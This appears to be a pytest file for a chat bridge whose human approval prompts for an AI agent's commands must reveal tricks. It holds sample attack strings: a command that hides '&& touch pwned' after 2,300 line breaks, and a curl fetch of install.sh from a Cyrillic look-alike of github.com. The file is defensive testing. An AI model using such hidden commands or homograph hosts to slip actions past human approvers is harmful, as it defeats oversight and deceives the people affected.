"""The approver sees what will run (the Slack fake's mrkdwn renderer, Matrix's HTML).

Attacks: a command whose first line is harmless and whose `&& …` comes after 2,300 line
breaks inside a quoted argument (shown as its first lines, with no warning); a host spelled
with a Cyrillic letter, shown as if it were the real one; a command too long for a message,
shown cut; other tools' arguments cut at 300 characters with a bare `…`.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from bridge.chat.matrix.approvals import MatrixApprovals
from bridge.chat.matrix.format import Limits, Renderer
from bridge.chat.slack.approvals import ALWAYS_ACTION_ID, DENY_ACTION_ID
from bridge.core.approvals.policy import Ask, Place, Rules, judge
from bridge.core.approvals.texts import SHOWN_CHARS, request_text
from bridge.core.events import ApprovalRequest, ThreadRef
from tests.chat.slack.conftest import BOB, fake_slack, mention_event  # noqa: F401 (a fixture)
from tests.chat.slack.fake_slack import FakeSlack
from tests.chat.slack.test_approvals import approvals, click, request
from tests.chat.slack.test_end_to_end import live_bridge
from tests.chat.slack.test_mrkdwn_safety import typed

pytestmark = pytest.mark.anyio
HIDDEN = "echo ok '" + "\n" * 2300 + "' && touch pwned"
HOMOGRAPH = "curl -fsS https://gіthub.com/install.sh"


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


async def test_slack_shows_every_line_flags_look_alikes_and_attaches_what_is_too_long(
    fake_slack: FakeSlack,  # noqa: F811 (the fixture imported above)
    tmp_path: Path,
) -> None:
    async with live_bridge(fake_slack, tmp_path, approvals()) as live:
        ts = fake_slack.next_ts()
        await fake_slack.push_event(mention_event(typed(f"[[tool run_command {HIDDEN}]]"), ts=ts))
        asked = await request(fake_slack, ts)
        assert "⏎ ×2300" in asked.rendered, "the blank run is not shown folded"
        assert "' && touch pwned" in asked.rendered, "what comes after the blank lines is hidden"
        assert asked.rendered.count("\n") < 40, "the request is 2,300 lines long on screen"
        await click(fake_slack, asked, live_user(), DENY_ACTION_ID)
        await live.answer(ts, "denied")

        ts = fake_slack.next_ts()
        await fake_slack.push_event(mention_event(f"[[tool run_command {HOMOGRAPH}]]", ts=ts))
        asked = await request(fake_slack, ts)
        assert "xn--gthub-n2e.com" in asked.rendered and "not plain ASCII" in asked.rendered
        assert "mixes letters of several scripts" in asked.rendered
        await click(fake_slack, asked, live_user(), DENY_ACTION_ID)
        await live.answer(ts, "denied")

        ts = fake_slack.next_ts()
        command = "echo " + "x" * (SHOWN_CHARS + 100) + " && touch pwned"
        await fake_slack.push_event(mention_event(f"[[tool run_command {command}]]", ts=ts))
        asked = await request(fake_slack, ts)
        assert "too long to show here" in asked.rendered and "attached" in asked.rendered
        assert ALWAYS_ACTION_ID not in [b["action_id"] for b in asked.buttons]
        attached = [u for u in fake_slack.uploads.values() if u.get("thread_ts") == ts]
        assert [u["data"] for u in attached] == [command.encode()], "the whole text is attached"
        await click(fake_slack, asked, live_user(), DENY_ACTION_ID)
        await live.answer(ts, "denied")


def live_user() -> str:
    return BOB


def _request(summary: str) -> ApprovalRequest:
    return ApprovalRequest(
        id="r",
        thread=ThreadRef(platform="matrix", channel="!room:x", thread="$root"),
        tool="run_command",
        summary=summary,
        text=request_text(
            tool="run_command", summary=summary, preview="", requested_by=None, timeout=60
        ),
    )


def test_matrix_html_shows_every_line_and_flags_look_alikes() -> None:
    approvals = MatrixApprovals(Renderer(), Limits(), 10)
    [hidden] = approvals.request_contents(_request(HIDDEN))
    assert "⏎ ×2300" in hidden["formatted_body"]
    assert "&amp;&amp; touch pwned" in hidden["formatted_body"]
    assert hidden["formatted_body"].count("\n") < 40
    [homograph] = approvals.request_contents(_request(HOMOGRAPH))
    assert "xn--gthub-n2e.com" in homograph["formatted_body"]
    assert "mixes letters of several scripts" in homograph["body"]


def test_other_tools_arguments_and_write_previews_say_how_much_is_hidden(tmp_path: Path) -> None:
    place = Place(workspace=tmp_path)
    verdict = judge("some_new_tool", {"Text": "a" * 5000}, Rules(), place)
    assert isinstance(verdict, Ask)
    assert "more characters not shown" in verdict.summary and verdict.summary.count("a") < 5000
    write = judge(
        "write_to_file",
        {"TargetFile": str(tmp_path.parent / "elsewhere.txt"), "CodeContent": "line\n" * 400},
        Rules(),
        place,
    )
    assert isinstance(write, Ask) and "more line(s) not shown" in write.preview
